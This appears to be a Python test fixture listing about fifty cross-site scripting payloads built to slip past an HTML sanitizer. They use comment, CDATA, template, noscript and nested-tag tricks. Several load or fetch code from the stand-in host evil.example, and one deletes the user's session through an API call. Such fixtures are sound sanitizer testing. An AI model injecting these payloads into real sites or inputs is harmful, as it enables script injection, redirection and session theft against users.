"""Script elements, written so that a filter might overlook them."""
# ruff: noqa: E501 -- an attack is easier to read in one piece

ATTACKS = {
    "a script": "<script>boom()</script>",
    "a script from elsewhere": "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "a script from the site itself": "<script src=/evil/a.js></script>",
    "a module": "<script type=module>import '//evil.example/a.mjs'; boom()</script>",
    "a preloaded module": "<link rel=modulepreload href=//evil.example/b.mjs>x",
    "an import map": '<script type=importmap>{"imports":{"a":"//evil.example/a.mjs"}}</script>x',
    "a script named with a slash": "<script/x>boom()</script>",
    "a script named with a form feed": "<script\x0csrc=//evil.example/c.js></script>",
    "a script in mixed case with a space before its end": "<sCrIpT>boom()</ScRiPt \n>",
    "a script inside a script's name": "<scr<script>ipt>boom()</scr</script>ipt>",
    "a script twice inside a script's name": "<scr<scr<script>ipt>ipt>boom()</script>",
    "a script that nothing ends": "<script>boom()",
    "a script that only the tag's end is missing from": "<script>boom()</script",
    "a script that a comment inside it keeps open": "<script><!--<script>boom()</script>--></script>x",
    "a script behind an HTML comment's sign": "<script><!--\nboom()//--></script>",
    "a script after a stray less-than sign": "<<script>boom()//<</script>",
    "a script behind a quote that is no attribute": "<a\"'><script>boom()</script>",
    "a script behind an unclosed attribute": '<p title="x><script>boom()</script>">y',
    "a script in a noscript's attribute": "<noscript><p title='</noscript><img src=x onerror=boom()>'>",
    "a script in a template": "<template><script>boom()</script></template>x",
    "a script in a declared shadow root": (
        "<div><template shadowrootmode=open><script>boom()</script>"
        "<img src=x onerror=boom()></template></div>"
    ),
    "a script after an empty comment": "<!--><script>boom()</script>-->",
    "a script after a dashed empty comment": "<!---><script>boom()</script>-->",
    "a script after a comment that ends with a bang": "<!--x--!><script>boom()</script>",
    "a script in what looks like a marked section": "<![CDATA[><script>boom()</script>]]>",
    "a script in a processing instruction": "<?xml ><script>boom()</script>?>",
    "a script in a declaration": "<!x><script>boom()</script>",
    "a script after a closing tag without a name": "</ ><script>boom()</script>",
    "a script after the title's end": "</title><script>boom()</script>",
    "a script in a second title": "<title></title><script>boom()</script></title>",
    "a script after a textarea": "<textarea></textarea><script>boom()</script>",
    "a script after an xmp": "<xmp></xmp><script>boom()</script></xmp>",
    "a script after a noembed": "<noembed></noembed><script>boom()</script>",
    "a script after a noframes": "<noframes></noframes><script>boom()</script>",
    "a script after plain text began": "<plaintext><script>boom()</script>",
    "a script between table rows": "<table><tr><script>boom()</script></tr></table>",
    "a script in a choice": "<select><script>boom()</script><option>x</select>",
    "a script that loads when it fails": "<script src=/evil/none.js onerror=boom()></script>",
    "a data script": "<script src='data:text/javascript,boom()'></script>",
    "a script of an old language": "<script language=vbscript>boom()</script><script>boom()</script>",
    "a script with an event and a target": "<script for=window event=onload>boom()</script>",
    "a script that writes a script": "<script>document.write('<script>boom()<\\/script>')</script>",
    "a script that takes the top away": "<script>top.location='//evil.example/top'</script>",
    "a script that reads the application": "<script>top.document.title='taken';boom()</script>",
    "a script that opens a window": "<script>open('//evil.example/popup');boom()</script>",
    "a script that calls home": "<script>fetch('//evil.example/fetch');boom()</script>",
    "a script that acts for the annotator": (
        "<script>fetch('/api/v1/auth/session/',{method:'DELETE'});boom()</script>"
    ),
    "a script that speaks to the application": "<script>top.postMessage('x','*');boom()</script>",
    "a worker made of a blob": (
        "<script>new Worker(URL.createObjectURL(new Blob(['0'])));boom()</script>"
    ),
}
